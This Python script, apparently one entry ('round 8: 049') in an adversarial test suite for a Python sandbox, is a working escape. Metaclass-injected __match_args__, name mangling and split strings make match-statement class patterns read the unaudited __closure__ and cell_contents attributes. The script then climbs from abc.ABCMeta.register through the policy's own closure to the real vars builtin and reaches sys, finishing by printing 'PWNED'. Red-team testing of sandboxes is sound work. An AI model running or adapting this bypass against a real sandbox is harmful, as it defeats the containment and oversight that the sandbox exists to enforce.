# adversary round 8: 049: launcher closures with only the static bypasses (mangling + metaclass-injected __match_args__): abc.ABCMeta.register is the launcher's wrapper; class patterns read its __closure__ and cell_contents (neither is audited) -> the policy's `owned` -> its closure -> the real, unguarded `vars` -> vars(typing)['sys']
import abc
import typing

pending = []


class Meta(type):
    def __new__(mcls, name, bases, ns):
        if pending:
            ns.update(pending.pop())
        return super().__new__(mcls, name, bases, ns)


pending.append({'__instance' + 'check__': lambda cls, obj: True})


class AnyMeta(Meta, metaclass=Meta):
    pass


pending.append({'__match' + '_args__': ('__clos' + 'ure__',)})


class _C__CL(metaclass=AnyMeta):
    pass


pending.append({'__match' + '_args__': ('cell_con' + 'tents',)})


class _C__CC(metaclass=AnyMeta):
    pass


class __CL:
    pass


class __CC:
    pass


class C:
    def closure(fn):
        match fn:
            case __CL(c):
                return c

    def contents(cell):
        match cell:
            case __CC(v):
                return v


wrapper = abc.ABCMeta.register
values = [C.contents(c) for c in C.closure(wrapper)]
print(values)
owned = [v for v in values if repr(v).startswith('<function install_policy.<locals>.owned')][0]
inner = [C.contents(c) for c in C.closure(owned)]
real_vars = [v for v in inner if repr(v) == '<built-in function vars>'][0]
s = real_vars(typing)['sys']
print(s, s.modules['posix'].getpid())
print('PWN' + 'ED')
